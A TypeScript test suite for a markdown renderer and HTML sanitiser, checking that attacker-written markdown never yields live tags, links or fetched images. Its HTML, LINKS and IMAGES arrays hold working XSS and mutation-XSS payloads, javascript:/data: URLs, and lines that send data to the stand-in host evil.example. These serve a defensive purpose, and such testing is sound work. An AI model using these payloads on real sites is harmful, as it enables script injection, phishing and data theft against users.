// Markdown of an attacker: nothing of it runs, is fetched, or looks like the interface.
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { JSDOM } from "jsdom";

const { window } = new JSDOM("");
Object.assign(globalThis, { window, document: window.document });
const { renderMarkdown } = await import("../../src/ui/markdown/render.ts");
const { sanitise } = await import("../../src/ui/markdown/sanitise.ts");

function show(fragment: DocumentFragment): HTMLElement {
  const element = window.document.createElement("div");
  element.append(fragment as never);
  return element as unknown as HTMLElement;
}
const markdown = (text: string): HTMLElement => show(sanitise(renderMarkdown(text)));

const HTML = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<style>@import url(https://evil.example/a.css);*{background:url(https://evil.example/)}</style>",
  "<p style='background:url(https://evil.example/x)'>styled</p>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/>",
  "<form action=https://evil.example><input name=a><button>Approve</button></form>",
  "<button class='button primary' onclick=alert(1)>Approve</button>",
  "<section class='approval' role='group'><h3>Approve</h3></section>",
  "<video src=https://evil.example/v autoplay></video><audio src=https://evil.example/a></audio>",
  "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
  "<a href='javascript:alert(1)'>a</a><a href='  java\nscript:alert(1)'>b</a><a href='data:text/html,<script>1</script>'>c</a>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template><slot></slot>",
  "<details open ontoggle=alert(1)><summary>x</summary></details><dialog open>Approve</dialog>",
  "<div id=app name=body data-approvals aria-label=Approve tabindex=0 contenteditable>x</div>",
];

const LINKS = [
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](java&#115;cript:alert(1))",
  "[a](data:text/html;base64,PHNjcmlwdD4=)",
  "[a](vbscript:x)",
  "[a](file:///etc/passwd)",
  "[a](blob:null/1)",
  "[a](//evil.example/x)",
  "[a](/auth/logout)",
  "[a]: javascript:alert(1)\n\n[a]",
  "<javascript:alert(1)>",
];

const IMAGES = [
  "![x](https://evil.example/?stolen=secret)",
  "![x](http://127.0.0.1/x.png)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "![x](/assets/1)",
  "[![x](https://evil.example/a.png)](https://evil.example/)",
  "![x][r]\n\n[r]: https://evil.example/r.png",
];

/** What an element may be and have, written down a second time. */
const TAGS = new Set("A BLOCKQUOTE BR CODE DEL DIV EM H2 H3 H4 H5 H6 HR LI OL P PRE S SMALL STRONG TABLE TBODY TD TH THEAD TR UL".split(" "));
const ATTRIBUTES = new Set(["href", "title", "target", "rel", "start", "align"]);

function assertHarmless(element: HTMLElement, source: string): void {
  for (const one of element.querySelectorAll("*")) {
    assert.ok(TAGS.has(one.tagName), `${one.tagName} from ${source}`);
    for (const { name, value } of one.attributes) {
      assert.ok(ATTRIBUTES.has(name), `${name} from ${source}`);
      if (name === "href") assert.match(value, /^(https?:\/\/[^/@]+(\/|$|\?)|mailto:)/, source);
    }
    if (one.tagName === "A") {
      assert.equal(one.getAttribute("target"), "_blank");
      assert.match(one.getAttribute("rel") ?? "", /noopener noreferrer/);
    }
  }
}

describe("markdown", () => {
  for (const source of [...HTML, ...LINKS, ...IMAGES]) {
    test(source.slice(0, 60), () => assertHarmless(markdown(source), source));
  }

  test("HTML is shown as the text that it is", () => {
    for (const source of HTML) assert.ok(markdown(source).textContent?.includes("<"), source);
  });

  test("links that may not be are no links", () => {
    for (const source of LINKS) assert.equal(markdown(source).querySelectorAll("a").length, 0, source);
  });

  test("a name before the host is no part of a link", () => {
    const links = markdown("[a](https://bank.example@evil.example/)").querySelectorAll("a");
    assert.deepEqual([...links].map((link) => link.getAttribute("href")), ["https://bank.example"]);
  });

  test("no image is ever fetched: it is a link that says where it leads", () => {
    for (const source of IMAGES) assert.equal(markdown(source).querySelectorAll("img").length, 0, source);
    assert.match(markdown(IMAGES[0] ?? "").textContent ?? "", /evil\.example/);
  });

  test("a link whose text names another place says where it leads", () => {
    assert.match(markdown("[https://bank.example](https://evil.example/x)").textContent ?? "", /\(evil\.example\)/);
    assert.doesNotMatch(markdown("[https://bank.example/x](https://bank.example/x)").textContent ?? "", /\(/);
  });

  test("characters that turn the order of text are gone", () => {
    assert.doesNotMatch(markdown("safe\u202Egnp.exe\u2066\u200b").textContent ?? "", /[\u202a-\u202e\u2066-\u2069\u200b]/);
  });
});

describe("the sanitiser alone, behind a renderer that let everything through", () => {
  for (const source of HTML) test(source.slice(0, 60), () => assertHarmless(show(sanitise(source)), source));

  test("keeps what markdown needs", () => {
    const html = '<p>a <strong>b</strong> <a href="https://a.example/">c</a></p><table><tbody><tr><td align="right">1</td></tr></tbody></table><ol start="3"><li>x</li></ol>';
    const element = show(sanitise(html));
    assert.equal(element.querySelector("td")?.getAttribute("align"), "right");
    assert.equal(element.querySelector("ol")?.getAttribute("start"), "3");
    assert.equal(element.querySelector("a")?.getAttribute("href"), "https://a.example/");
  });
});
